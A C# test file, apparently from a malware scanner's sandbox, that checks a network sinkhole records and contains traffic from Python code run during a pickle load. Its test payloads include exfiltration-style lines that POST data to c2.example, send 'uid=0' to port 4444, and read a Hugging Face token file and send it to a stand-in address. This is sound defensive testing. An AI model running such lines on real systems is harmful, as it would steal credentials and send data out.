// The network of nothing: names are answered, connections are taken and told, and nothing leaves the box.
using System.Net;
using System.Net.Sockets;
using Assay.Artifacts;
using Assay.Bytes;
using Assay.Detection;
using Assay.Sandbox;
using Assay.Sandbox.Boxes;
using Assay.Sandbox.Loading;
using Assay.Tests.Builders;

namespace Assay.Tests.Sandbox;

public sealed class SinkholeTests(SinkholeTests.Sunk sunk) : IClassFixture<SinkholeTests.Sunk>
{
    /// <summary>One box with a sinkhole for all tests.</summary>
    public sealed class Sunk : IDisposable
    {
        internal TestLoader Loader { get; } = new(new SandboxOptions { Sinkhole = true, Time = TimeSpan.FromSeconds(40) });

        public void Dispose() => Loader.Dispose();
    }

    private LoadResult Run(string source)
    {
        Boxed.Needs();
        using MemorySource bytes = new(Boxed.Running(source));
        return sunk.Loader.LoadOnce("m", bytes, new KnownLoader("pickle.load", ""), [], BoxSetting.Usual, TestContext.Current.CancellationToken);
    }

    [Fact]
    public void ANameIsAnsweredAndTold()
    {
        LoadResult result = Run("import socket\nraise LookupError(socket.gethostbyname('c2.' + 'example'))");
        Assert.Equal("builtins.LookupError: 198.18.0.1", result.Detail);
        Assert.Contains(result.Events, e => e is { Kind: "sinkhole-name", Subject: "c2.example", Action: "DNS A", Source: BehaviourSource.Sandbox });
    }

    [Fact]
    public void ARequestIsAnsweredWithNothingAndTold()
    {
        LoadResult result = Run("""
            import urllib.request
            answer = urllib.request.urlopen('http://c2.' + 'example:8' + '081/stage?x=1', data=b'loot', timeout=10)
            raise LookupError(answer.status, answer.read())
            """);
        Assert.Equal("builtins.LookupError: (200, b'')", result.Detail);
        BehaviourFact request = Assert.Single(result.Events, e => e.Kind == "sinkhole-request");
        Assert.Equal("198.18.0.1:8081 (c2.example)", request.Subject);
        Assert.StartsWith("POST /stage?x=1 HTTP/1.1\r\n", request.Arguments[0], StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\nloot", request.Arguments[0], StringComparison.Ordinal);
        Assert.Contains(FactBuilder.Judge([request]), f => f.Rule.Id == "observed-network" && f.Severity == Severity.Critical);
    }

    [Fact]
    public void AnyPortOfAnyAddressTakesBytesAndCloses()
    {
        LoadResult result = Run("""
            import socket
            s = socket.create_connection(('203.0.' + '113.7', 4000 + 444), timeout=10)
            s.sendall(b'uid=0')
            raise LookupError(s.recv(100))
            """);
        Assert.Equal("builtins.LookupError: b''", result.Detail);
        BehaviourFact request = Assert.Single(result.Events, e => e.Kind == "sinkhole-request");
        Assert.Equal(("203.0.113.7:4444", "uid=0"), (request.Subject, Assert.Single(request.Arguments)));
    }

    [Fact]
    public void IPv6IsAnsweredAsWell()
    {
        Boxed.Needs();
        Assert.SkipUnless(File.Exists("/proc/net/if_inet6"), "This machine has no IPv6.");
        LoadResult result = Run("""
            import socket
            address = socket.getaddrinfo('c6.' + 'example', 4444, socket.AF_INET6, socket.SOCK_STREAM)[0][4]
            s = socket.create_connection(address[:2], timeout=10)
            s.sendall(b'six')
            socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'beacon', ('2001:db8::8', 5000))
            raise LookupError(address[0], s.recv(100))
            """);
        Assert.Equal("builtins.LookupError: ('2001:2::1', b'')", result.Detail);
        Assert.Contains(result.Events, e => e is { Kind: "sinkhole-name", Action: "DNS AAAA", Subject: "c6.example" });
        Assert.Contains(result.Events, e => e is { Kind: "sinkhole-request", Subject: "[2001:2::1]:4444 (c6.example)", Arguments: ["six"] });
        Assert.Contains(result.Events, e => e is { Kind: "sinkhole-request", Action: "UDP", Subject: "[2001:db8::8]:5000", Arguments: ["beacon"] });
    }

    [Fact]
    public void ADatagramIsTold()
    {
        LoadResult result = Run("import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'beacon', ('203.0.' + '113.8', 5000))");
        Assert.Contains(result.Events, e => e is { Kind: "sinkhole-request", Action: "UDP", Subject: "203.0.113.8:5000", Arguments: ["beacon"] });
    }

    [Fact]
    public void TheNameInATlsGreetingIsTold()
    {
        LoadResult result = Run("""
            import ssl, socket
            try:
                ssl.create_default_context().wrap_socket(socket.create_connection(('203.0.113.9', 443), timeout=10), server_hostname='drop.' + 'example')
            except OSError:
                pass
            """);
        Assert.Contains(result.Events, e => e.Kind == "sinkhole-request" && e.Arguments is ["TLS for drop.example"]);
    }

    [Fact]
    public void AStolenSecretInARequestIsToldAndMasked()
    {
        LoadResult result = Run("""
            import os, urllib.request
            token = open(os.path.expanduser('~/.cache/hugging' + 'face/to' + 'ken')).read().strip()
            urllib.request.urlopen('http://203.0.113.7/?t=' + token, timeout=10)
            """);
        Assert.Contains(result.Events, e => e is { Kind: "secret-leaves", Source: BehaviourSource.Sandbox });
        Assert.DoesNotContain(result.Events, e => e.Arguments.Any(a => a.Contains("hf_", StringComparison.Ordinal)));
    }

    [Fact]
    public void NothingLeavesTheBox()
    {
        Boxed.Needs();
        // A listener of the host at every address of the host, and its port: the load reaches the sinkhole under the same address.
        using Socket host = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        host.Bind(new IPEndPoint(IPAddress.Any, 0));
        host.Listen(10);
        int port = ((IPEndPoint)host.LocalEndPoint!).Port;
        // A host's table of names may give one address more than once, or the loopback's.
        IPAddress[] ofHost = [IPAddress.Loopback, .. Resolved(Dns.GetHostName()).Where(a => a.AddressFamily == AddressFamily.InterNetwork)];
        string[] addresses = [.. ofHost.Select(a => a.ToString()).Distinct()];
        LoadResult result = Run($"import socket\nfor a in {"['" + string.Join("', '", addresses) + "']"}:\n    socket.create_connection((a, {port}), timeout=10).close()");
        Assert.Equal((LoadEnd.Loaded, "builtins.NoneType"), (result.End, result.Detail));
        Assert.Equal(addresses.Length, result.Events.Count(e => e.Kind == "sinkhole-request"));
        Assert.False(host.Poll(200_000, SelectMode.SelectRead));
    }

    private static IPAddress[] Resolved(string host)
    {
        try
        {
            return Dns.GetHostAddresses(host);
        }
        catch (SocketException)
        {
            // A machine need not know its own name.
            return [];
        }
    }

    [Fact]
    public void ALoadKeepsNoRightOverItsNetwork()
    {
        LoadResult result = Run("""
            import socket, fcntl, struct
            capable = open('/proc/self/status').read().split('CapEff:')[1].split()[0]
            try:
                fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sh22x', b'lo', 0))
                capable = 'the loopback can be ended'
            except PermissionError:
                pass
            raise LookupError(capable)
            """);
        Assert.Equal("builtins.LookupError: 0000000000000000", result.Detail);
    }

    [Fact]
    public void ConnectionsWithoutEndAreBounded()
    {
        LoadResult result = Run("""
            import socket
            kept = []
            for i in range(300):
                try:
                    kept.append(socket.create_connection(('203.0.113.7', 1000 + i), timeout=0.2))
                except OSError:
                    pass
            """);
        Assert.NotEqual(LoadEnd.NotBegun, result.End);
        Assert.InRange(result.Events.Count(e => e.Kind == "sinkhole-request"), 1, 101);
    }
}
